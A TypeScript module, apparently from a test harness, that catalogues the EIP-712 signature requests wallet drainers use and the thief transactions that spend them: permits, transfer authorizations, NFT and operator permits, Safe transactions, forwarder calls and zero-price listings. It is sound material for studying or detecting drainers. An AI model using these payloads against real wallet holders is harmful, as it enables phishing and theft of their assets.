/** Lists typed data with which drainers take assets, and how they submit it. @module */
import { encodeAbiParameters, type Hex, keccak256, maxUint256 } from "viem";
import { permit2Patterns } from "./permit2.ts";
import { encode, HELD, type Made, type Name, type Scene } from "./scene.ts";

/** Typed data requested by a site. */
export interface TypedPattern {
  readonly name: string;
  readonly data: Typed;
  /** Transactions of the thief, given the signature. */
  then(signature: Hex): readonly Made[];
}

/** Typed data as a site sends it. */
export interface Typed {
  readonly types: Readonly<Record<string, readonly { name: string; type: string }[]>>;
  readonly primaryType: string;
  readonly domain: Readonly<Record<string, unknown>>;
  readonly message: Readonly<Record<string, unknown>>;
}

/** Builds typed data of one struct, from its EIP-712 type. */
function struct(
  type: string,
  domain: Typed["domain"],
  values: readonly unknown[],
): Typed {
  const [, primaryType, list] = /^(\w+)\((.*)\)$/.exec(type)!;
  const fields = list!.split(",").map((field) => {
    const [type, name] = field.split(" ") as [string, string];
    return { type, name };
  });
  return {
    types: { [primaryType!]: fields },
    primaryType: primaryType!,
    domain,
    message: Object.fromEntries(fields.map(({ name }, index) => [name, values[index]])),
  };
}

const text = (value: bigint) => value.toString();
const forever = text(maxUint256);

/** Lists the patterns. */
export function typedPatterns(scene: Scene): readonly TypedPattern[] {
  const { chainId, at, thief, signer } = scene;
  const me = signer.address;
  const domain = (name: string, of: Name) => ({
    name,
    version: "1",
    chainId,
    verifyingContract: at[of],
  });
  const pull = (name: Name, id = HELD): Made => ({
    to: at[name],
    data: encode("transferFrom(address,address,uint256)", [me, thief, id]),
  });
  const withdraw = encode("withdraw(uint256,address,address)", [HELD, thief, me]);
  const row = (name: string, data: Typed, then: TypedPattern["then"]) => ({ name, data, then });
  const permit =
    "Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)";
  const take = (to: Name, signature: string, args: readonly unknown[]) => (proof: Hex): Made[] => [{
    to: at[to],
    data: encode(signature, [...args, proof]),
  }];
  const rest = "(address from,address to,uint256 value,uint256 validAfter,uint256 validBefore," +
    "bytes32 nonce)";
  const none: Hex = `0x${"00".repeat(32)}`;
  const times = [me, thief, text(HELD), "0", forever, none];
  const dai = "Permit(address holder,address spender,uint256 nonce,uint256 expiry,bool allowed)";
  return [
    ...[maxUint256, HELD].map((value) =>
      row(
        `permit of ${value}`,
        struct(permit, domain("Coin", "coin"), [me, thief, text(value), "0", forever]),
        (proof) => [{
          to: at.coin,
          data: encode("permit(address,address,uint256,uint256,uint8,bytes32,bytes32)", [
            me,
            thief,
            value,
            maxUint256,
            Number(`0x${proof.slice(130)}`),
            proof.slice(0, 66),
            `0x${proof.slice(66, 130)}`,
          ]),
        }, pull("coin")],
      )
    ),
    row("DAI's permit", struct(dai, domain("Dai", "dai"), [me, thief, "0", "0", true]), (proof) => [
      ...take("dai", "permit(address,address,uint256,uint256,bool,bytes)", [
        me,
        thief,
        0n,
        0n,
        true,
      ])(proof),
      pull("dai"),
    ]),
    row(
      "TransferWithAuthorization",
      struct(`TransferWithAuthorization${rest}`, domain("Dollar", "dollar"), times),
      take(
        "dollar",
        "transferWithAuthorization(address,address,uint256,uint256,uint256,bytes32,bytes)",
        [me, thief, HELD, 0n, maxUint256, none],
      ),
    ),
    row(
      "ReceiveWithAuthorization",
      struct(`ReceiveWithAuthorization${rest}`, domain("Dollar", "dollar"), times),
      take(
        "dollar",
        "receiveWithAuthorization(address,address,uint256,uint256,uint256,bytes32,bytes)",
        [me, thief, HELD, 0n, maxUint256, none],
      ),
    ),
    ...[
      encode("approve(address,uint256)", [thief, maxUint256]),
      encode("transfer(address,uint256)", [thief, HELD]),
    ].map((data, index) =>
      row(
        `MetaTransaction ${index}`,
        struct("MetaTransaction(uint256 nonce,address from,bytes functionSignature)", {
          ...domain("Dai", "dai"),
        }, ["0", me, data]),
        (proof) => [
          ...take("dai", "executeMetaTransaction(address,bytes,bytes)", [me, data])(proof),
          pull("dai"),
        ],
      )
    ),
    row(
      "permit of an item",
      struct(
        "Permit(address spender,uint256 tokenId,uint256 nonce,uint256 deadline)",
        domain("Cards", "cards"),
        [thief, "1", "0", forever],
      ),
      (proof) => [
        ...take("cards", "permit(address,uint256,uint256,bytes)", [thief, 1n, maxUint256])(proof),
        pull("cards", 1n),
      ],
    ),
    row(
      "permit of an operator",
      struct(
        "PermitForAll(address owner,address operator,bool approved,uint256 nonce,uint256 deadline)",
        domain("Cards", "cards"),
        [me, thief, true, "0", forever],
      ),
      (proof) => [
        ...take("cards", "permitForAll(address,address,bytes)", [me, thief])(proof),
        pull("cards", 1n),
      ],
    ),
    row(
      "Authorization of a manager",
      struct(
        "Authorization(address authorizer,address authorized,bool isAuthorized,uint256 nonce," +
          "uint256 deadline)",
        domain("Market", "market"),
        [me, thief, true, "0", forever],
      ),
      (proof) => [
        ...take("market", "setAuthorizationWithSig(address,address,bytes)", [me, thief])(proof),
        { to: at.market, data: withdraw },
      ],
    ),
    ...signedCalls(scene, withdraw, domain("Forwarder", "forwarder")),
    ...permit2Patterns(scene),
  ];
}

/** Lists calls that others make with a signature: of a forwarder, and of a Safe. */
function signedCalls(
  { chainId, at, thief, signer }: Scene,
  withdraw: Hex,
  forwarder: Typed["domain"],
): readonly TypedPattern[] {
  const me = signer.address;
  const zero = `0x${"00".repeat(20)}` as const;
  const exec =
    "execTransaction(address,uint256,bytes,uint8,uint256,uint256,uint256,address,address,bytes)";
  const send = encode("transfer(address,uint256)", [thief, HELD]);
  const safe = (
    name: string,
    to: Hex,
    data: Hex,
    operation: number,
    then: readonly Made[] = [],
    [baseGas, gasPrice, gasToken, receiver]: readonly [string, string, Hex, Hex] = [
      "0",
      "0",
      zero,
      zero,
    ],
  ) => ({
    name,
    data: struct(
      "SafeTx(address to,uint256 value,bytes data,uint8 operation,uint256 safeTxGas," +
        "uint256 baseGas,uint256 gasPrice,address gasToken,address refundReceiver,uint256 nonce)",
      { chainId, verifyingContract: at.signersSafe },
      [to, "0", data, operation, "0", baseGas, gasPrice, gasToken, receiver, "0"],
    ),
    then: (proof: Hex) => [{
      to: at.signersSafe,
      data: encode(exec, [
        to,
        0n,
        data,
        operation,
        0n,
        baseGas,
        gasPrice,
        gasToken,
        receiver,
        proof,
      ]),
    }, ...then],
  });
  const module: Made = {
    to: at.signersSafe,
    data: encode("execTransactionFromModule(address,uint256,bytes,uint8)", [at.coin, 0n, send, 0]),
  };
  return [
    {
      name: "ForwardRequest",
      data: struct(
        "ForwardRequest(address from,address to,uint256 value,uint256 gas,uint256 nonce," +
          "uint48 deadline,bytes data)",
        forwarder,
        [me, at.market, "0", "500000", "0", "281474976710655", withdraw],
      ),
      then: (proof) => [{
        to: at.forwarder,
        data: encode(
          "execute((address,address,uint256,uint256,uint48,bytes,bytes) request)",
          [[me, at.market, 0n, 500_000n, 281474976710655, withdraw, proof]],
        ),
      }],
    },
    safe("SafeTx: transfer", at.coin, send, 0),
    safe(
      "SafeTx: delegatecall",
      at.openChest,
      encode("take(address,address)", [at.coin, thief]),
      1,
    ),
    safe("SafeTx: refund", me, "0x", 0, [], [text(900n * HELD), "1", at.coin, thief]),
    safe("SafeTx: enableModule", at.signersSafe, encode("enableModule(address)", [thief]), 0, [
      module,
    ]),
    ...(["Ask", "Root"] as const).map((kind) => bazaarRow(kind, { chainId, at, me })),
  ];
}

/** Builds a listing for no price, in full or as a hash alone. */
function bazaarRow(
  kind: "Ask" | "Root",
  { chainId, at, me }: { readonly chainId: number; readonly at: Scene["at"]; readonly me: Hex },
): TypedPattern {
  const domain = { name: "Bazaar", version: "1", chainId, verifyingContract: at.bazaar };
  const leaf = keccak256(encodeAbiParameters(
    [{ type: "address" }, { type: "address" }, { type: "uint256" }, { type: "uint256" }],
    [me, at.cards, 1n, 0n],
  ));
  return {
    name: `listing for nothing: ${kind}`,
    data: kind === "Ask"
      ? struct("Ask(address seller,address collection,uint256 id,uint256 price)", domain, [
        me,
        at.cards,
        "1",
        "0",
      ])
      : struct("Root(bytes32 root)", domain, [leaf]),
    then: (proof) => [{
      to: at.bazaar,
      data: encode(`take${kind === "Ask" ? "" : "Leaf"}(address,address,uint256,bytes)`, [
        me,
        at.cards,
        1n,
        proof,
      ]),
    }],
  };
}
